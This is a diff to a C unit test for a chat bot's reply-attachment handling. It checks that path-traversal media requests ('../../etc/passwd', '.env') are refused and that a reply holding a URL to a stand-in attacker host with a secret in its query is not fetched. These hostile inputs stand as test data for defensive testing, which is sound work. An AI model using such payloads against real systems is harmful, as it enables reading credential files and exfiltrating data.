@@ -758,7 +758,7 @@ static size_t staged_files(void)
 static void files_body(void)
 {
 	struct chan_message m = { .channel = "telegram", .peer = { .id = "7" },
-				  .text = "Here.\nMEDIA:chart.png\nMEDIA:../../etc/passwd\nMEDIA:.env" };
+				  .text = "Here.\nMEDIA:chart.png\nMEDIA:../../etc/passwd\nMEDIA:.env", .may_attach = true };
 	bool is_silent;
 	int64_t id;
 
@@ -777,7 +777,12 @@ static void files_body(void)
 	assert_int_equal(fake_at(FAKE_SEND, 0)->media_count, 1);
 	assert_string_equal(fake_at(FAKE_SEND, 0)->media_name, "chart.png");
 	assert_true(str_starts(fake_at(FAKE_SEND, 0)->text, "Here."));
-	assert_int_equal(staged_files(), 0);
+	/* A guest's turn gets none of them, and nobody's reply has an address fetched. */
+	m.text = "MEDIA:chart.png\nMEDIA:https://evil.example/?q=secret";
+	m.file_count = m.may_attach = 0;
+	assert_int_equal(egress_reply(out(), "main", NULL, scratch(), &m, &is_silent, &err), CH_OK);
+	assert_non_null(strstr(m.text, "https://evil.example/?q=secret"));
+	assert_int_equal(staged_files() + (int)m.file_count, 0);
 }
 
 static void test_threat_exfiltration_a_reply_sends_files_of_the_workspace_only(void **state)
